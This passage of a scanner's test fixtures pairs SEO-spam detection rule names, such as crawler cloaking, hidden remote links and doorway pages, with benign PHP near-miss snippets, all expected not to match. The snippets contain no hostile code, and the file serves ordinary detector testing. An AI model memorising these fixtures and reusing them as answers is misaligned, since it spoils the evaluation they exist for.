            "<?php\n$url = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$json = file_get_contents('https://graph.example.com/?id=' . urlencode($url));\n$data = json_decode($json, true);\n$count = (int) $data['shares'];\necho $count;\n?>"
        ),
        False,
    ),  # near-miss share_count
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$url = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$json = file_get_contents('https://graph.example.com/?id=' . urlencode($url));\n$data = json_decode($json, true);\n$count = (int) $data['shares'];\necho $count;\n?>"
        ),
        False,
    ),  # near-miss share_count
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$url = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$json = file_get_contents('https://graph.example.com/?id=' . urlencode($url));\n$data = json_decode($json, true);\n$count = (int) $data['shares'];\necho $count;\n?>"
        ),
        False,
    ),  # near-miss share_count
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$url = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$json = file_get_contents('https://graph.example.com/?id=' . urlencode($url));\n$data = json_decode($json, true);\n$count = (int) $data['shares'];\necho $count;\n?>"
        ),
        False,
    ),  # near-miss share_count
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$url = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$json = file_get_contents('https://graph.example.com/?id=' . urlencode($url));\n$data = json_decode($json, true);\n$count = (int) $data['shares'];\necho $count;\n?>"
        ),
        False,
    ),  # near-miss share_count
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$url = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$json = file_get_contents('https://graph.example.com/?id=' . urlencode($url));\n$data = json_decode($json, true);\n$count = (int) $data['shares'];\necho $count;\n?>"
        ),
        False,
    ),  # near-miss share_count
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$url = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$json = file_get_contents('https://graph.example.com/?id=' . urlencode($url));\n$data = json_decode($json, true);\n$count = (int) $data['shares'];\necho $count;\n?>"
        ),
        False,
    ),  # near-miss share_count embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$here = urlencode('https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\necho '<a href=\"https://twitter.com/intent/tweet?url=' . $here . '\">Tweet</a>';\necho '<a href=\"https://www.facebook.com/sharer.php?u=' . $here . '\">Share</a>';\n?>"
        ),
        False,
    ),  # near-miss share_links
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$here = urlencode('https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\necho '<a href=\"https://twitter.com/intent/tweet?url=' . $here . '\">Tweet</a>';\necho '<a href=\"https://www.facebook.com/sharer.php?u=' . $here . '\">Share</a>';\n?>"
        ),
        False,
    ),  # near-miss share_links
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$here = urlencode('https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\necho '<a href=\"https://twitter.com/intent/tweet?url=' . $here . '\">Tweet</a>';\necho '<a href=\"https://www.facebook.com/sharer.php?u=' . $here . '\">Share</a>';\n?>"
        ),
        False,
    ),  # near-miss share_links
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$here = urlencode('https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\necho '<a href=\"https://twitter.com/intent/tweet?url=' . $here . '\">Tweet</a>';\necho '<a href=\"https://www.facebook.com/sharer.php?u=' . $here . '\">Share</a>';\n?>"
        ),
        False,
    ),  # near-miss share_links
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$here = urlencode('https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\necho '<a href=\"https://twitter.com/intent/tweet?url=' . $here . '\">Tweet</a>';\necho '<a href=\"https://www.facebook.com/sharer.php?u=' . $here . '\">Share</a>';\n?>"
        ),
        False,
    ),  # near-miss share_links
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$here = urlencode('https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\necho '<a href=\"https://twitter.com/intent/tweet?url=' . $here . '\">Tweet</a>';\necho '<a href=\"https://www.facebook.com/sharer.php?u=' . $here . '\">Share</a>';\n?>"
        ),
        False,
    ),  # near-miss share_links
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$here = urlencode('https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\necho '<a href=\"https://twitter.com/intent/tweet?url=' . $here . '\">Tweet</a>';\necho '<a href=\"https://www.facebook.com/sharer.php?u=' . $here . '\">Share</a>';\n?>"
        ),
        False,
    ),  # near-miss share_links
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$here = urlencode('https://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);\necho '<a href=\"https://twitter.com/intent/tweet?url=' . $here . '\">Tweet</a>';\necho '<a href=\"https://www.facebook.com/sharer.php?u=' . $here . '\">Share</a>';\n?>"
        ),
        False,
    ),  # near-miss share_links embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nif (preg_match('/(iPhone|Android|Mobile)/', $_SERVER['HTTP_USER_AGENT'])) {\n    header('Location: https://m.example.com' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_to_m
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nif (preg_match('/(iPhone|Android|Mobile)/', $_SERVER['HTTP_USER_AGENT'])) {\n    header('Location: https://m.example.com' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_to_m
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\nif (preg_match('/(iPhone|Android|Mobile)/', $_SERVER['HTTP_USER_AGENT'])) {\n    header('Location: https://m.example.com' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_to_m
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\nif (preg_match('/(iPhone|Android|Mobile)/', $_SERVER['HTTP_USER_AGENT'])) {\n    header('Location: https://m.example.com' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_to_m
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\nif (preg_match('/(iPhone|Android|Mobile)/', $_SERVER['HTTP_USER_AGENT'])) {\n    header('Location: https://m.example.com' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_to_m
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\nif (preg_match('/(iPhone|Android|Mobile)/', $_SERVER['HTTP_USER_AGENT'])) {\n    header('Location: https://m.example.com' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_to_m
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\nif (preg_match('/(iPhone|Android|Mobile)/', $_SERVER['HTTP_USER_AGENT'])) {\n    header('Location: https://m.example.com' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_to_m
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nif (preg_match('/(iPhone|Android|Mobile)/', $_SERVER['HTTP_USER_AGENT'])) {\n    header('Location: https://m.example.com' . $_SERVER['REQUEST_URI']);\n    exit;\n}\n?>"
        ),
        False,
    ),  # near-miss mobile_to_m embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($ref, 'google.') !== false) {\n    $terms = parse_url($ref, PHP_URL_QUERY);\n    echo '<div class=\"welcome\">Welcome, Google visitor!</div>';\n}\n?>"
        ),
        False,
    ),  # near-miss referer_welcome
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($ref, 'google.') !== false) {\n    $terms = parse_url($ref, PHP_URL_QUERY);\n    echo '<div class=\"welcome\">Welcome, Google visitor!</div>';\n}\n?>"
        ),
        False,
    ),  # near-miss referer_welcome
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($ref, 'google.') !== false) {\n    $terms = parse_url($ref, PHP_URL_QUERY);\n    echo '<div class=\"welcome\">Welcome, Google visitor!</div>';\n}\n?>"
        ),
        False,
    ),  # near-miss referer_welcome
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($ref, 'google.') !== false) {\n    $terms = parse_url($ref, PHP_URL_QUERY);\n    echo '<div class=\"welcome\">Welcome, Google visitor!</div>';\n}\n?>"
        ),
        False,
    ),  # near-miss referer_welcome
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($ref, 'google.') !== false) {\n    $terms = parse_url($ref, PHP_URL_QUERY);\n    echo '<div class=\"welcome\">Welcome, Google visitor!</div>';\n}\n?>"
        ),
        False,
    ),  # near-miss referer_welcome
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($ref, 'google.') !== false) {\n    $terms = parse_url($ref, PHP_URL_QUERY);\n    echo '<div class=\"welcome\">Welcome, Google visitor!</div>';\n}\n?>"
        ),
        False,
    ),  # near-miss referer_welcome
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($ref, 'google.') !== false) {\n    $terms = parse_url($ref, PHP_URL_QUERY);\n    echo '<div class=\"welcome\">Welcome, Google visitor!</div>';\n}\n?>"
        ),
        False,
    ),  # near-miss referer_welcome
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$ref = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';\nif (strpos($ref, 'google.') !== false) {\n    $terms = parse_url($ref, PHP_URL_QUERY);\n    echo '<div class=\"welcome\">Welcome, Google visitor!</div>';\n}\n?>"
        ),
        False,
    ),  # near-miss referer_welcome embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$notice = get_option('site_notice');\necho '<div style=\"display:none\" id=\"notice\">' . esc_html($notice) . '</div>';\n?>"
        ),
        False,
    ),  # near-miss hidden_div_local
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$notice = get_option('site_notice');\necho '<div style=\"display:none\" id=\"notice\">' . esc_html($notice) . '</div>';\n?>"
        ),
        False,
    ),  # near-miss hidden_div_local
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$notice = get_option('site_notice');\necho '<div style=\"display:none\" id=\"notice\">' . esc_html($notice) . '</div>';\n?>"
        ),
        False,
    ),  # near-miss hidden_div_local
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$notice = get_option('site_notice');\necho '<div style=\"display:none\" id=\"notice\">' . esc_html($notice) . '</div>';\n?>"
        ),
        False,
    ),  # near-miss hidden_div_local
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$notice = get_option('site_notice');\necho '<div style=\"display:none\" id=\"notice\">' . esc_html($notice) . '</div>';\n?>"
        ),
        False,
    ),  # near-miss hidden_div_local
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$notice = get_option('site_notice');\necho '<div style=\"display:none\" id=\"notice\">' . esc_html($notice) . '</div>';\n?>"
        ),
        False,
    ),  # near-miss hidden_div_local
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$notice = get_option('site_notice');\necho '<div style=\"display:none\" id=\"notice\">' . esc_html($notice) . '</div>';\n?>"
        ),
        False,
    ),  # near-miss hidden_div_local
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$notice = get_option('site_notice');\necho '<div style=\"display:none\" id=\"notice\">' . esc_html($notice) . '</div>';\n?>"
        ),
        False,
    ),  # near-miss hidden_div_local embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\nforeach ($pages as $page) {\n    $html = render_page($page);\n    file_put_contents($outdir . '/' . $page['slug'] . '.html', $html);\n}\n?>"
        ),
        False,
    ),  # near-miss static_export
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\nforeach ($pages as $page) {\n    $html = render_page($page);\n    file_put_contents($outdir . '/' . $page['slug'] . '.html', $html);\n}\n?>"
        ),
        False,
    ),  # near-miss static_export
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\nforeach ($pages as $page) {\n    $html = render_page($page);\n    file_put_contents($outdir . '/' . $page['slug'] . '.html', $html);\n}\n?>"
        ),
        False,
    ),  # near-miss static_export
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\nforeach ($pages as $page) {\n    $html = render_page($page);\n    file_put_contents($outdir . '/' . $page['slug'] . '.html', $html);\n}\n?>"
        ),
        False,
    ),  # near-miss static_export
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\nforeach ($pages as $page) {\n    $html = render_page($page);\n    file_put_contents($outdir . '/' . $page['slug'] . '.html', $html);\n}\n?>"
        ),
        False,
    ),  # near-miss static_export
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\nforeach ($pages as $page) {\n    $html = render_page($page);\n    file_put_contents($outdir . '/' . $page['slug'] . '.html', $html);\n}\n?>"
        ),
        False,
    ),  # near-miss static_export
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\nforeach ($pages as $page) {\n    $html = render_page($page);\n    file_put_contents($outdir . '/' . $page['slug'] . '.html', $html);\n}\n?>"
        ),
        False,
    ),  # near-miss static_export
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\nforeach ($pages as $page) {\n    $html = render_page($page);\n    file_put_contents($outdir . '/' . $page['slug'] . '.html', $html);\n}\n?>"
        ),
        False,
    ),  # near-miss static_export embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$resp = wp_remote_get('https://api.example.org/plugins/update-check/1.1/?site=' . urlencode(home_url()));\nif (!is_wp_error($resp)) { $body = json_decode(wp_remote_retrieve_body($resp)); }\n$ua = $_SERVER['HTTP_USER_AGENT'];\n?>"
        ),
        False,
    ),  # near-miss update_check
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$resp = wp_remote_get('https://api.example.org/plugins/update-check/1.1/?site=' . urlencode(home_url()));\nif (!is_wp_error($resp)) { $body = json_decode(wp_remote_retrieve_body($resp)); }\n$ua = $_SERVER['HTTP_USER_AGENT'];\n?>"
        ),
        False,
    ),  # near-miss update_check
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$resp = wp_remote_get('https://api.example.org/plugins/update-check/1.1/?site=' . urlencode(home_url()));\nif (!is_wp_error($resp)) { $body = json_decode(wp_remote_retrieve_body($resp)); }\n$ua = $_SERVER['HTTP_USER_AGENT'];\n?>"
        ),
        False,
    ),  # near-miss update_check
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$resp = wp_remote_get('https://api.example.org/plugins/update-check/1.1/?site=' . urlencode(home_url()));\nif (!is_wp_error($resp)) { $body = json_decode(wp_remote_retrieve_body($resp)); }\n$ua = $_SERVER['HTTP_USER_AGENT'];\n?>"
        ),
        False,
    ),  # near-miss update_check
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$resp = wp_remote_get('https://api.example.org/plugins/update-check/1.1/?site=' . urlencode(home_url()));\nif (!is_wp_error($resp)) { $body = json_decode(wp_remote_retrieve_body($resp)); }\n$ua = $_SERVER['HTTP_USER_AGENT'];\n?>"
        ),
        False,
    ),  # near-miss update_check
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$resp = wp_remote_get('https://api.example.org/plugins/update-check/1.1/?site=' . urlencode(home_url()));\nif (!is_wp_error($resp)) { $body = json_decode(wp_remote_retrieve_body($resp)); }\n$ua = $_SERVER['HTTP_USER_AGENT'];\n?>"
        ),
        False,
    ),  # near-miss update_check
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$resp = wp_remote_get('https://api.example.org/plugins/update-check/1.1/?site=' . urlencode(home_url()));\nif (!is_wp_error($resp)) { $body = json_decode(wp_remote_retrieve_body($resp)); }\n$ua = $_SERVER['HTTP_USER_AGENT'];\n?>"
        ),
        False,
    ),  # near-miss update_check
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$resp = wp_remote_get('https://api.example.org/plugins/update-check/1.1/?site=' . urlencode(home_url()));\nif (!is_wp_error($resp)) { $body = json_decode(wp_remote_retrieve_body($resp)); }\n$ua = $_SERVER['HTTP_USER_AGENT'];\n?>"
        ),
        False,
    ),  # near-miss update_check embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$api = 'https://backend.example.com/api';\n$target = $api . $_SERVER['REQUEST_URI'];\n$ch = curl_init($target);\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('X-Forwarded-Host: ' . $_SERVER['HTTP_HOST']));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$resp = curl_exec($ch);\nheader('Content-Type: application/json');\necho $resp;\n?>"
        ),
        False,
    ),  # near-miss reverse_proxy_api
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$api = 'https://backend.example.com/api';\n$target = $api . $_SERVER['REQUEST_URI'];\n$ch = curl_init($target);\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('X-Forwarded-Host: ' . $_SERVER['HTTP_HOST']));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$resp = curl_exec($ch);\nheader('Content-Type: application/json');\necho $resp;\n?>"
        ),
        False,
    ),  # near-miss reverse_proxy_api
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$api = 'https://backend.example.com/api';\n$target = $api . $_SERVER['REQUEST_URI'];\n$ch = curl_init($target);\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('X-Forwarded-Host: ' . $_SERVER['HTTP_HOST']));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$resp = curl_exec($ch);\nheader('Content-Type: application/json');\necho $resp;\n?>"
        ),
        False,
    ),  # near-miss reverse_proxy_api
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$api = 'https://backend.example.com/api';\n$target = $api . $_SERVER['REQUEST_URI'];\n$ch = curl_init($target);\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('X-Forwarded-Host: ' . $_SERVER['HTTP_HOST']));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$resp = curl_exec($ch);\nheader('Content-Type: application/json');\necho $resp;\n?>"
        ),
        False,
    ),  # near-miss reverse_proxy_api
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$api = 'https://backend.example.com/api';\n$target = $api . $_SERVER['REQUEST_URI'];\n$ch = curl_init($target);\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('X-Forwarded-Host: ' . $_SERVER['HTTP_HOST']));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$resp = curl_exec($ch);\nheader('Content-Type: application/json');\necho $resp;\n?>"
        ),
        False,
    ),  # near-miss reverse_proxy_api
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$api = 'https://backend.example.com/api';\n$target = $api . $_SERVER['REQUEST_URI'];\n$ch = curl_init($target);\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('X-Forwarded-Host: ' . $_SERVER['HTTP_HOST']));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$resp = curl_exec($ch);\nheader('Content-Type: application/json');\necho $resp;\n?>"
        ),
        False,
    ),  # near-miss reverse_proxy_api
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$api = 'https://backend.example.com/api';\n$target = $api . $_SERVER['REQUEST_URI'];\n$ch = curl_init($target);\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('X-Forwarded-Host: ' . $_SERVER['HTTP_HOST']));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$resp = curl_exec($ch);\nheader('Content-Type: application/json');\necho $resp;\n?>"
        ),
        False,
    ),  # near-miss reverse_proxy_api
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$api = 'https://backend.example.com/api';\n$target = $api . $_SERVER['REQUEST_URI'];\n$ch = curl_init($target);\ncurl_setopt($ch, CURLOPT_HTTPHEADER, array('X-Forwarded-Host: ' . $_SERVER['HTTP_HOST']));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$resp = curl_exec($ch);\nheader('Content-Type: application/json');\necho $resp;\n?>"
        ),
        False,
    ),  # near-miss reverse_proxy_api embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$bots = '/(Googlebot|bingbot|Baiduspider|YandexBot)/i';\nif (preg_match($bots, $_SERVER['HTTP_USER_AGENT'])) { return; }\n$feed = file_get_contents('https://feeds.example.com/widget.html');\necho $feed;\n?>"
        ),
        False,
    ),  # near-miss bots_skip_then_feed
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$bots = '/(Googlebot|bingbot|Baiduspider|YandexBot)/i';\nif (preg_match($bots, $_SERVER['HTTP_USER_AGENT'])) { return; }\n$feed = file_get_contents('https://feeds.example.com/widget.html');\necho $feed;\n?>"
        ),
        False,
    ),  # near-miss bots_skip_then_feed
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$bots = '/(Googlebot|bingbot|Baiduspider|YandexBot)/i';\nif (preg_match($bots, $_SERVER['HTTP_USER_AGENT'])) { return; }\n$feed = file_get_contents('https://feeds.example.com/widget.html');\necho $feed;\n?>"
        ),
        False,
    ),  # near-miss bots_skip_then_feed
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$bots = '/(Googlebot|bingbot|Baiduspider|YandexBot)/i';\nif (preg_match($bots, $_SERVER['HTTP_USER_AGENT'])) { return; }\n$feed = file_get_contents('https://feeds.example.com/widget.html');\necho $feed;\n?>"
        ),
        False,
    ),  # near-miss bots_skip_then_feed
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$bots = '/(Googlebot|bingbot|Baiduspider|YandexBot)/i';\nif (preg_match($bots, $_SERVER['HTTP_USER_AGENT'])) { return; }\n$feed = file_get_contents('https://feeds.example.com/widget.html');\necho $feed;\n?>"
        ),
        False,
    ),  # near-miss bots_skip_then_feed
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$bots = '/(Googlebot|bingbot|Baiduspider|YandexBot)/i';\nif (preg_match($bots, $_SERVER['HTTP_USER_AGENT'])) { return; }\n$feed = file_get_contents('https://feeds.example.com/widget.html');\necho $feed;\n?>"
        ),
        False,
    ),  # near-miss bots_skip_then_feed
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$bots = '/(Googlebot|bingbot|Baiduspider|YandexBot)/i';\nif (preg_match($bots, $_SERVER['HTTP_USER_AGENT'])) { return; }\n$feed = file_get_contents('https://feeds.example.com/widget.html');\necho $feed;\n?>"
        ),
        False,
    ),  # near-miss bots_skip_then_feed
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$bots = '/(Googlebot|bingbot|Baiduspider|YandexBot)/i';\nif (preg_match($bots, $_SERVER['HTTP_USER_AGENT'])) { return; }\n$feed = file_get_contents('https://feeds.example.com/widget.html');\necho $feed;\n?>"
        ),
        False,
    ),  # near-miss bots_skip_then_feed embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    return;\n}\n$widget = file_get_contents('https://widgets.example.com/box.html');\necho $widget;\n?>"
        ),
        False,
    ),  # near-miss bot_skip_strpos_feed
    (
        "SPAMGEAR_SEOSPAM_SearchRefererRedirect",
        plain(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    return;\n}\n$widget = file_get_contents('https://widgets.example.com/box.html');\necho $widget;\n?>"
        ),
        False,
    ),  # near-miss bot_skip_strpos_feed
    (
        "SPAMGEAR_SEOSPAM_MobileRedirectToOutside",
        plain(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    return;\n}\n$widget = file_get_contents('https://widgets.example.com/box.html');\necho $widget;\n?>"
        ),
        False,
    ),  # near-miss bot_skip_strpos_feed
    (
        "SPAMGEAR_SEOSPAM_HiddenRemoteLinks",
        plain(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    return;\n}\n$widget = file_get_contents('https://widgets.example.com/box.html');\necho $widget;\n?>"
        ),
        False,
    ),  # near-miss bot_skip_strpos_feed
    (
        "SPAMGEAR_SEOSPAM_DoorwayPageGenerator",
        plain(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    return;\n}\n$widget = file_get_contents('https://widgets.example.com/box.html');\necho $widget;\n?>"
        ),
        False,
    ),  # near-miss bot_skip_strpos_feed
    (
        "SPAMGEAR_SEOSPAM_RequestForwardEcho",
        plain(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    return;\n}\n$widget = file_get_contents('https://widgets.example.com/box.html');\necho $widget;\n?>"
        ),
        False,
    ),  # near-miss bot_skip_strpos_feed
    (
        "SPAMGEAR_SEOSPAM_RemoteSitemapForHost",
        plain(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    return;\n}\n$widget = file_get_contents('https://widgets.example.com/box.html');\necho $widget;\n?>"
        ),
        False,
    ),  # near-miss bot_skip_strpos_feed
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        embedded(
            "<?php\n$ua = strtolower($_SERVER['HTTP_USER_AGENT']);\nif (strpos($ua, 'googlebot') !== false || strpos($ua, 'bingbot') !== false) {\n    return;\n}\n$widget = file_get_contents('https://widgets.example.com/box.html');\necho $widget;\n?>"
        ),
        False,
    ),  # near-miss bot_skip_strpos_feed embedded
    (
        "SPAMGEAR_SEOSPAM_CrawlerGateRemoteOutput",
        plain(
